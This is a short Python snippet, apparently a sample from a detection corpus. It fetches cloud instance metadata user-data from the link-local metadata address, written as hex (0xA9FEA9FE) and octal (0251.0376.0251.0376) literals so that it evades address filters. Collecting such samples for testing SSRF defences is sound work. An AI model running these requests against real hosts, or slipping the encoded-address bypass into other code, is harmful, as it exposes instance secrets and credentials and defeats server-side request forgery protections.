# corpus: requests to hex and octal encoded IP literals (0xA9FEA9FE, 0251.0376.0251.0376) for metadata
import requests

for host in ("0xA9FEA9FE", "0251.0376.0251.0376"):
    try:
        print(requests.get(f"http://{host}/latest/user-data", timeout=2).text)
    except requests.RequestException:
        pass
